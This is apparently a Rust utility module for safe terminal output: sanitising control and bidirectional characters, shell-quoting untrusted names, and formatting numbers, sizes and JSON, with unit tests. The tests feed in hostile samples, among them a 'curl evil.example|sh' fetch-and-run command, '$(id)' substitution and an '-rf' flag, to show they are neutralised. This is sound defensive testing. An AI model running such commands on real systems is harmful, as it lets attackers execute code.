//! Text made fit for a terminal.

use std::borrow::Cow;

/// What others wrote, without control characters and without those that turn the direction of writing:
/// nobody's error message moves the cursor or hides a word.
pub fn clean(text: &str) -> Cow<'_, str> {
    if !text.chars().any(is_hostile) {
        return Cow::Borrowed(text);
    }
    let tame = |c: char| match c {
        '\t' => ' ',
        c if is_hostile(c) => '\u{fffd}',
        c => c,
    };
    Cow::Owned(text.chars().map(tame).collect())
}

fn is_hostile(c: char) -> bool {
    c.is_control() || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// What others named, as one word of a command that is copied into a shell: whatever the name says, it stays a word.
pub fn shell(word: &str) -> Cow<'_, str> {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '/' | ':' | '-');
    if !word.is_empty() && word.chars().all(is_plain) {
        return Cow::Borrowed(word);
    }
    Cow::Owned(format!("'{}'", clean(word).replace('\'', r"'\''")))
}

/// The same as an argument without a flag, which must come last where it begins like a flag.
pub fn operand(word: &str) -> String {
    let marked = if word.starts_with('-') { "-- " } else { "" };
    format!("{marked}{}", shell(word))
}

/// The same as the value of a flag.
pub fn flag(name: &str, word: &str) -> String {
    let between = if word.starts_with('-') { "=" } else { " " };
    format!("{name}{between}{}", shell(word))
}

/// The first line of a text, cleaned.
pub fn one_line(text: &str) -> String {
    let mut lines = text.lines();
    let first = clean(lines.next().unwrap_or_default()).into_owned();
    match lines.next() {
        Some(_) => first + " …",
        None => first,
    }
}

/// At most `most` characters; what is cut off is marked.
pub fn elide(text: &str, most: usize) -> String {
    if text.chars().count() <= most {
        return text.to_owned();
    }
    let kept: String = text.chars().take(most.saturating_sub(1)).collect();
    kept + "…"
}

/// The same sentence, begun with a capital.
pub fn capital(text: &str) -> String {
    let mut letters = text.chars();
    match letters.next() {
        Some(first) => first.to_uppercase().chain(letters).collect(),
        None => String::new(),
    }
}

/// A number with its thousands apart.
pub fn count(n: i64) -> String {
    let digits = n.unsigned_abs().to_string();
    let mut text = String::with_capacity(digits.len() + digits.len() / 3 + 1);
    if n < 0 {
        text.push('-');
    }
    for (at, digit) in digits.chars().enumerate() {
        if at > 0 && (digits.len() - at).is_multiple_of(3) {
            text.push(',');
        }
        text.push(digit);
    }
    text
}

/// `1 job`, `2 jobs`.
pub fn plural(n: i64, one: &str, many: &str) -> String {
    format!("{} {}", count(n), if n == 1 { one } else { many })
}

/// A share of one as percent.
pub fn percent(share: f64) -> String {
    format!("{:.1} %", share * 100.0)
}

/// A size in the unit that fits.
pub fn bytes(n: i64) -> String {
    const UNITS: [&str; 5] = ["B", "KiB", "MiB", "GiB", "TiB"];
    let mut value = n as f64;
    let mut unit = 0;
    while value >= 1024.0 && unit + 1 < UNITS.len() {
        value /= 1024.0;
        unit += 1;
    }
    match unit {
        0 => format!("{n} B"),
        _ => format!("{value:.1} {}", UNITS[unit]),
    }
}

/// JSON text over several lines, its members in the order they came and its numbers as they were written.
pub fn pretty_json(json: &str) -> String {
    let mut text = String::with_capacity(json.len() * 2);
    let mut depth = 0;
    let mut chars = json.chars().filter(|c| !c.is_control()).peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' => copy_string(&mut chars, &mut text),
            '{' | '[' => {
                while chars.next_if(|c| c.is_whitespace()).is_some() {}
                text.push(c);
                if let Some(end) = chars.next_if(|c| matches!(c, '}' | ']')) {
                    text.push(end);
                } else {
                    depth += 1;
                    new_line(&mut text, depth);
                }
            }
            '}' | ']' => {
                depth -= 1;
                new_line(&mut text, depth);
                text.push(c);
            }
            ',' => {
                text.push(c);
                new_line(&mut text, depth);
            }
            ':' => text.push_str(": "),
            c if c.is_whitespace() => {}
            c => text.push(c),
        }
    }
    text
}

fn copy_string(chars: &mut impl Iterator<Item = char>, text: &mut String) {
    text.push('"');
    let mut escaped = false;
    for c in chars {
        text.push(c);
        match c {
            _ if escaped => escaped = false,
            '\\' => escaped = true,
            '"' => return,
            _ => {}
        }
    }
}

fn new_line(text: &mut String, depth: usize) {
    text.push('\n');
    text.extend(std::iter::repeat_n("  ", depth));
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_others_wrote_cannot_steer_the_terminal() {
        assert_eq!(clean("plain – ünïcode ✓"), "plain – ünïcode ✓");
        assert_eq!(clean("a\x1b[31mred\u{9b}1A\u{202e}x\ty"), "a�[31mred�1A�x y");
        assert_eq!(one_line("boom\nat line 3"), "boom …");
    }

    #[test]
    fn what_others_named_is_one_word_of_a_command() {
        assert_eq!(shell("mail/send_v1.2:a-b"), "mail/send_v1.2:a-b");
        assert_eq!(shell("x; curl evil.example|sh #"), "'x; curl evil.example|sh #'");
        assert_eq!(shell("it's $(id) `id`"), r"'it'\''s $(id) `id`'");
        assert_eq!(shell(""), "''");
        assert_eq!(shell("a\nb"), "'a\u{fffd}b'");
        assert_eq!(
            (operand("a b"), operand("-rf")),
            ("'a b'".to_owned(), "-- -rf".to_owned())
        );
        assert_eq!(
            (flag("--task", "a"), flag("--task", "-a")),
            ("--task a".to_owned(), "--task=-a".to_owned())
        );
    }

    #[test]
    fn numbers_and_sizes_are_easy_on_the_eye() {
        assert_eq!(count(0), "0");
        assert_eq!(count(1_234_567), "1,234,567");
        assert_eq!(count(-1_000), "-1,000");
        assert_eq!(bytes(512), "512 B");
        assert_eq!(bytes(1_572_864), "1.5 MiB");
        assert_eq!(elide("charge_customer", 8), "charge_…");
    }

    #[test]
    fn pretty_json_changes_nothing_but_space() {
        let json = r#"{"b":1.10,"a":[1,2,{}],"s":"x{,\"y\\"}"#;
        let pretty = pretty_json(json);
        assert_eq!(
            pretty,
            "{\n  \"b\": 1.10,\n  \"a\": [\n    1,\n    2,\n    {}\n  ],\n  \"s\": \"x{,\\\"y\\\\\"\n}"
        );
    }
}
